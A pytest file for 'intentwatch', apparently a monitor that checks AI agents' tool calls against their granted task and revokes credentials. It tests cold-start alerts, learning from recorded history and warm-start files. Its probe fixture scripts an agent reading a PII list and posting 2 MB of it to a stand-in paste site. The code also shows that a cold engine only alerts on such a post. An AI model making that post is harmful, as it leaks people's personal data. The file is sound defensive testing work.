"""Cold start, visible and curable (issue 14 point 5).

A fresh engine knows no agent, role or fleet: its verdicts' ``history_*`` components say
so, and a call that sends an agent's personal data to a site nothing vouches for is
only an alert, because destinations count as evidence only once the role has enough clean
tasks.
``intentwatch learn`` replays a recording through the same engine and writes what it
learned; an engine, and a real worker started with ``INTENTWATCH_WARM_FROM``, then
know the agent and revoke that call for its destination.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest
from typer.testing import CliRunner

from intentwatch.cli import app
from intentwatch.contracts import Grant, ToolCall, Verdict, decode_replay_record
from intentwatch.models.config import load_config
from intentwatch.models.detection import Detector
from intentwatch.models.engine import Engine
from intentwatch.models.replay import event_time
from intentwatch.simulation.fleet import FleetSpec, generate, write_jsonl
from tests.conftest import RunningWorker, wait_for

ROLE = "spiffe://acme.org/agents/research"
AGENT = f"{ROLE}/agent-3"
SPEC = FleetSpec(seed=3, agents_per_role=3, history_days=4.0, attack_rate=0.0, attack_days=0.0)
"""Benign history only: every research agent's tasks end clean and are learned."""
INTENT = "Enrich the partners list with firmographics."
GRANT = {"intent": INTENT, "tools": ["*"], "targets": ["*"],
         "data_labels": ["public", "internal", "confidential", "pii"]}
PASTE_SITE = "https://pasteshare.example/api/paste"

pytestmark = pytest.mark.slow  # a few days of a fleet are generated and learned


def probe_calls(task: str, credential: str) -> list[dict[str, Any]]:
    """A task that reads a list of personal data, then posts 2 MB of it to a paste site."""
    base = {"agent_id": AGENT, "task_id": task, "credential_id": credential,
            "data_labels": ["internal", "pii"]}
    return [
        {**base, "event_id": f"{task}-read", "tool": "s3.get_object",
         "target": "s3://acme-datalake/lists/partners.csv", "bytes_in": 2_000_000},
        {**base, "event_id": f"{task}-post", "tool": "http.post", "target": PASTE_SITE,
         "bytes_out": 2_000_000},
    ]


def judge_probe(engine: Engine, now: float) -> Verdict:
    """The engine's verdict on the probe's post, its task granted at ``now``."""
    engine.process(Grant(grant_id="g-probe", agent_id=AGENT, task_id="probe",
                         credential_ids=["c-probe"], issued_at=now, expires_at=now + 3600,
                         issuer="broker", **GRANT), now=now)
    verdicts = []
    for i, call in enumerate(probe_calls("probe", "c-probe"), start=1):
        event = msgspec.convert({**call, "ts": now + i}, ToolCall)
        verdicts += engine.process(event, now=now + i).verdicts
    return verdicts[-1]


@pytest.fixture(scope="module")
def recording(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("recorded") / "events.jsonl"
    write_jsonl(generate(SPEC), path)
    return path


@pytest.fixture(scope="module")
def learned(recording: Path) -> Path:
    out = recording.with_name("learned.state")
    done = CliRunner().invoke(app, ["learn", str(recording), "--out", str(out)])
    assert done.exit_code == 0, done.output
    assert "start a worker from it: intentwatch worker --warm-from" in done.output
    return out


def warm_detector(learned: Path) -> Detector:
    detector = Detector(load_config())
    detector.load_state(learned.read_bytes())
    return detector


def test_a_cold_engine_says_it_knows_nothing_and_only_alerts_on_the_paste_site() -> None:
    verdict = judge_probe(Engine(), now=1.9e9)
    assert {name: value for name, value in verdict.components.items()
            if name.startswith("history_")} == {
        "history_agent_calls": 0.0, "history_role_calls": 0.0,
        "history_fleet_calls": 0.0, "history_role_tasks": 0.0}
    # nothing could be established yet: the destination alerts, and says why it does not revoke
    assert verdict.decision == "alert" and verdict.rule == "cold_destination"
    assert verdict.components["destination"] == 0.0
    assert verdict.components["cold_destination"] == 1.0


def test_learn_warms_an_engine_that_then_revokes_for_the_destination(
    recording: Path, learned: Path
) -> None:
    detector = warm_detector(learned)
    history = detector.history_summary()
    assert history["by_role"][ROLE]["tasks"] >= detector.provenance.min_history_tasks
    assert history["agents"] == 6 * SPEC.agents_per_role and history["cold_roles"] == 0
    assert 0 < history["fleet_calls"] <= detector.restored_calls  # decayed counts

    # the same learning as replaying the recording through an engine directly
    replayed = Engine()
    last = 0.0
    for line in recording.read_text().splitlines():
        event = decode_replay_record(json.loads(line))
        last = max(last, event_time(event))
        replayed.process(event, now=last)
    replayed.tick(last + replayed.config.grace_seconds)
    assert replayed.detector.state() == learned.read_bytes()

    engine = Engine(detector=detector)
    verdict = judge_probe(engine, now=last + 3600)
    assert verdict.decision == "revoke" and verdict.reasons[0].code == "destination"
    assert verdict.components["history_agent_calls"] > 0
    assert verdict.components["history_role_tasks"] == history["by_role"][ROLE]["tasks"]


def test_learn_lists_bad_lines_and_goes_on_or_stops_with_strict(
    recording: Path, tmp_path: Path
) -> None:
    lines = recording.read_text().splitlines()[:200]
    lines.insert(10, '{"kind": "toolcall", "agent_id": "not a spiffe id"}')
    damaged = tmp_path / "damaged.jsonl"
    damaged.write_text("\n".join(lines) + "\n")
    out = tmp_path / "learned.state"
    done = CliRunner().invoke(app, ["learn", str(damaged), "-o", str(out)])
    assert done.exit_code == 0, done.output
    listed = out.with_name("learned.state.rejected.txt").read_text()
    assert listed.startswith(f"{damaged}:11: ") and len(listed.splitlines()) == 1
    warm_detector(out)  # a usable state despite the bad line

    strict = CliRunner().invoke(app, ["learn", str(damaged), "-o", str(out), "--strict"])
    assert strict.exit_code == 2 and f"{damaged}:11: " in strict.output


@pytest.mark.kafka
def test_a_worker_started_from_the_learned_state_shows_its_history_and_revokes(
    kafka_bootstrap: str, issuer_key: Any, learned: Path, tmp_path: Path
) -> None:
    given = warm_detector(learned)
    expected = given.history_summary()
    worker = RunningWorker(kafka_bootstrap, tmp_path, issuer_key,
                           settings={"INTENTWATCH_WARM_FROM": str(learned)})
    try:
        task = "probe-worker"
        credential = f"c-{AGENT.rsplit('/', 1)[1]}-{task}"
        worker.publisher.publish_grant(worker.grant(AGENT, task, **GRANT))
        for call in probe_calls(task, credential):
            worker.publisher.publish_toolcall(call)
        worker.publisher.flush()
        [revocation] = [r for r in worker.revocations(AGENT) if r.task_id == task]
        assert revocation.reason_code == "intent_violation"
        records = wait_for(lambda: [msgspec.json.decode(r.value, type=Verdict)
                                    for r in worker.topics["verdicts"].now(AGENT)],
                           lambda got: any(v.event_id == f"{task}-post" for v in got), 60,
                           "the post's verdict")
        [post] = [v for v in records if v.event_id == f"{task}-post"]
        assert post.decision == "revoke" and post.reasons[0].code == "destination"
        assert post.components["history_role_tasks"] >= expected["by_role"][ROLE]["tasks"]
        assert post.components["history_agent_calls"] > 0
        # each partition the worker read started from the file (the probe's agent's too)
        status = worker.status()["learned"]
        assert status["warm_from"] == str(learned) and status["restored_agents"] >= 1
        assert status["restored_calls"] >= given.restored_calls
        assert status["history"]["fleet_calls"] >= expected["fleet_calls"]
        role = status["history"]["by_role"][ROLE]
        assert role["tasks"] >= expected["by_role"][ROLE]["tasks"]
    finally:
        worker.close()
        worker.stop()


def test_a_missing_warm_start_file_names_its_variable(tmp_path: Path) -> None:
    from intentwatch.pipeline.app import warm_start
    from intentwatch.pipeline.settings import SettingsError

    with pytest.raises(SettingsError, match=r"INTENTWATCH_WARM_FROM .*intentwatch learn"):
        warm_start(load_config(), tmp_path / "nothing.state")


@pytest.mark.parametrize(("written", "why"), [
    (lambda state: msgspec.msgpack.encode({**msgspec.msgpack.decode(state), "version": 0}),
     "learned state of version 0; this intentwatch reads version 2 only (learn it again "
     "with this version)"),
    (lambda state: pickle_like(), "not intentwatch learned state (it has no learned-state "
                                   "header)"),
])
def test_a_warm_start_file_of_another_version_is_refused_in_one_sentence(
    tmp_path: Path, written: Any, why: str
) -> None:
    from intentwatch.pipeline.app import warm_start
    from intentwatch.pipeline.settings import SettingsError

    path = tmp_path / "old.state"
    path.write_bytes(written(Detector(load_config()).state()))
    with pytest.raises(SettingsError) as refused:
        warm_start(load_config(), path)
    assert str(refused.value) == f"INTENTWATCH_WARM_FROM {path}: {why}"


def pickle_like() -> bytes:
    """The first bytes of a protocol-5 pickle, as the worker's old snapshots began."""
    return b"\x80\x05\x95\x00\x01\x00\x00\x00\x00\x00\x00}\x94."
